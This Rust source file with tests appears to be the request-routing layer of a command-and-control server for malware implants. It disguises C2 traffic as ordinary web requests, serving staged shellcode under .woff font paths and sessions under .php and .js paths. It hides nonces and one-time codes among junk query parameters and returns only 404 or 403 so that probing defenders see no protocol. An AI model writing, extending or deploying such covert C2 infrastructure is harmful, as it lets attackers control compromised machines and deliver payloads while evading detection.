use crate::encoders::{encoder_from_nonce, Encoder};
use http::{HeaderMap, Method, StatusCode, Uri};
use std::net::{IpAddr, SocketAddr};
use thiserror::Error;

#[derive(Error, Debug)]
pub enum C2Error {
    #[error("Nonce not found in request")]
    MissingNonce,
    #[error("Invalid request encoder")]
    InvalidEncoder,
    #[error("Failed to decode request")]
    DecodeFailed,
    #[error("OTP code not found in request")]
    MissingOtp,
    #[error("Invalid OTP code")]
    InvalidOtp,
    #[error("Crypto operation failed")]
    CryptoFailed,
    #[error("Replay attack detected")]
    ReplayDetected,
    #[error("Unknown session")]
    UnknownSession,
    #[error("Bad request")]
    BadRequest,
    #[error("Upstream unavailable: {0}")]
    UpstreamUnavailable(&'static str),
}

impl C2Error {
    /// Non-signalling status mapping: nothing on the C2 surface admits a
    /// protocol exists. 404 almost everywhere, 403 for unknown sessions,
    /// never 5xx.
    pub fn status(&self) -> StatusCode {
        match self {
            C2Error::UnknownSession => StatusCode::FORBIDDEN,
            _ => StatusCode::NOT_FOUND,
        }
    }
}

// Procedural C2 routes:
//   .txt   = rsa public key
//   .phtml = session start
//   .php   = session data
//   .js    = long poll
//   .png   = session stop
//   .woff  = staged shellcode
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Route {
    RsaKey,
    StartSession,
    SessionData,
    Poll,
    Stop,
    Stager,
    Other,
}

pub fn match_route(path: &str, method: &Method) -> Route {
    if path.ends_with(".txt") && method == Method::GET {
        Route::RsaKey
    } else if path.ends_with(".phtml") && (method == Method::GET || method == Method::POST) {
        Route::StartSession
    } else if path.ends_with(".php") && (method == Method::GET || method == Method::POST) {
        Route::SessionData
    } else if path.ends_with(".js") && method == Method::GET {
        Route::Poll
    } else if path.ends_with(".png") && method == Method::GET {
        Route::Stop
    } else if is_stager_path(path) && method == Method::GET {
        Route::Stager
    } else {
        Route::Other
    }
}

// Stager requests arrive as e.g. /fonts/Inter-Medium.woff/B64_PAYLOAD_UUID;
// the bootstrapper cannot set arbitrary query strings, so no nonce filter.
fn is_stager_path(path: &str) -> bool {
    path.ends_with(".woff") || path.contains(".woff/")
}

fn digits_only(value: &str) -> String {
    value.chars().filter(|c| c.is_ascii_digit()).collect()
}

/// Nonce from the first one-character query parameter, in presentation
/// order. The short name lets the client bury the nonce among junk
/// parameters; non-digit characters in the value are ignored.
pub fn nonce_from_uri(uri: &Uri) -> Result<u64, C2Error> {
    let query = uri.query().unwrap_or("");
    for (name, value) in form_urlencoded::parse(query.as_bytes()) {
        if name.chars().count() != 1 {
            continue;
        }
        let digits = digits_only(&value);
        if digits.is_empty() {
            return Err(C2Error::MissingNonce);
        }
        return digits.parse().map_err(|_| C2Error::MissingNonce);
    }
    Err(C2Error::MissingNonce)
}

/// Nonce filter + encoder selection for every C2 route except the stager.
pub fn encoder_from_uri(uri: &Uri) -> Result<(u64, &'static dyn Encoder), C2Error> {
    let nonce = nonce_from_uri(uri)?;
    encoder_from_nonce(nonce).map_err(|_| C2Error::InvalidEncoder)
}

/// OTP candidate from the first two-character query parameter, digits only.
pub fn otp_from_uri(uri: &Uri) -> Result<String, C2Error> {
    let query = uri.query().unwrap_or("");
    for (name, value) in form_urlencoded::parse(query.as_bytes()) {
        if name.chars().count() != 2 {
            continue;
        }
        let digits = digits_only(&value);
        if digits.is_empty() {
            return Err(C2Error::MissingOtp);
        }
        return Ok(digits);
    }
    Err(C2Error::MissingOtp)
}

/// Best-effort remote address. Proxy headers are user-controlled input, so
/// they only count when they parse as an IP address.
pub fn remote_address(peer: SocketAddr, headers: &HeaderMap) -> String {
    let forwarded = headers
        .get("x-real-ip")
        .or_else(|| headers.get("x-forwarded-for"))
        .and_then(|v| v.to_str().ok());
    match forwarded {
        Some(value) => match value.trim().parse::<IpAddr>() {
            Ok(ip) => format!("tcp({})->{}", peer, ip),
            Err(_) => {
                tracing::warn!("Failed to parse proxy header as ip address");
                peer.to_string()
            }
        },
        None => peer.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn uri(s: &str) -> Uri {
        s.parse().unwrap()
    }

    #[test]
    fn test_route_table() {
        assert_eq!(match_route("/assets/x.txt", &Method::GET), Route::RsaKey);
        assert_eq!(match_route("/p.phtml", &Method::POST), Route::StartSession);
        assert_eq!(match_route("/p.phtml", &Method::GET), Route::StartSession);
        assert_eq!(match_route("/d.php", &Method::POST), Route::SessionData);
        assert_eq!(match_route("/app.js", &Method::GET), Route::Poll);
        assert_eq!(match_route("/e.png", &Method::GET), Route::Stop);
        assert_eq!(
            match_route("/fonts/Inter-Medium.woff", &Method::GET),
            Route::Stager
        );
        assert_eq!(
            match_route("/fonts/Inter-Medium.woff/dXVpZA", &Method::GET),
            Route::Stager
        );
        assert_eq!(match_route("/index.html", &Method::GET), Route::Other);
    }

    #[test]
    fn test_methods_are_constrained() {
        assert_eq!(match_route("/x.txt", &Method::POST), Route::Other);
        assert_eq!(match_route("/app.js", &Method::POST), Route::Other);
        assert_eq!(match_route("/e.png", &Method::POST), Route::Other);
        assert_eq!(match_route("/f.woff", &Method::POST), Route::Other);
    }

    #[test]
    fn test_nonce_extraction() {
        assert_eq!(nonce_from_uri(&uri("/x.txt?z=00731")).unwrap(), 731);
        // Non-digit noise in the value is ignored.
        assert_eq!(nonce_from_uri(&uri("/x.txt?q=a1b3c")).unwrap(), 13);
        // Long names don't carry the nonce.
        assert!(nonce_from_uri(&uri("/x.txt?id=13")).is_err());
        assert!(nonce_from_uri(&uri("/x.txt")).is_err());
        assert!(nonce_from_uri(&uri("/x.txt?z=junk")).is_err());
    }

    #[test]
    fn test_first_short_param_wins() {
        assert_eq!(nonce_from_uri(&uri("/x.txt?ref=9&a=13&b=92")).unwrap(), 13);
    }

    #[test]
    fn test_encoder_filter() {
        assert!(encoder_from_uri(&uri("/x.txt?z=42")).is_err());
        let (id, _) = encoder_from_uri(&uri("/x.txt?z=113")).unwrap();
        assert_eq!(id, 13);
    }

    #[test]
    fn test_otp_extraction() {
        assert_eq!(otp_from_uri(&uri("/x.txt?a=1&bc=000000")).unwrap(), "000000");
        assert_eq!(otp_from_uri(&uri("/x.txt?bc=12a34")).unwrap(), "1234");
        assert!(otp_from_uri(&uri("/x.txt?a=1")).is_err());
    }

    #[test]
    fn test_remote_address() {
        let peer: SocketAddr = "10.0.0.5:51820".parse().unwrap();

        let empty = HeaderMap::new();
        assert_eq!(remote_address(peer, &empty), "10.0.0.5:51820");

        let mut headers = HeaderMap::new();
        headers.insert("x-real-ip", "203.0.113.9".parse().unwrap());
        assert_eq!(
            remote_address(peer, &headers),
            "tcp(10.0.0.5:51820)->203.0.113.9"
        );

        let mut bogus = HeaderMap::new();
        bogus.insert("x-forwarded-for", "evil, 1.2.3.4".parse().unwrap());
        assert_eq!(remote_address(peer, &bogus), "10.0.0.5:51820");
    }

    #[test]
    fn test_error_status_mapping() {
        assert_eq!(C2Error::UnknownSession.status(), StatusCode::FORBIDDEN);
        assert_eq!(C2Error::MissingNonce.status(), StatusCode::NOT_FOUND);
        assert_eq!(C2Error::ReplayDetected.status(), StatusCode::NOT_FOUND);
        assert_eq!(C2Error::InvalidOtp.status(), StatusCode::NOT_FOUND);
        assert_eq!(
            C2Error::UpstreamUnavailable("ca").status(),
            StatusCode::NOT_FOUND
        );
    }
}
